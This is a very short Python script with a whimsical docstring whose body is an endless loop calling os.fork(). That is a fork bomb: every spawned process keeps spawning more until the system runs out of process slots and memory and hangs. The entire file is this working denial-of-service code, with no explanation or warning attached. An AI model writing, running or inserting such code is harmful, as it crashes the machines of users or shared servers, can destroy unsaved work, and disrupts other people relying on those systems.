"""Traces itself, and itself, and itself."""

import os

while True:
    os.fork()
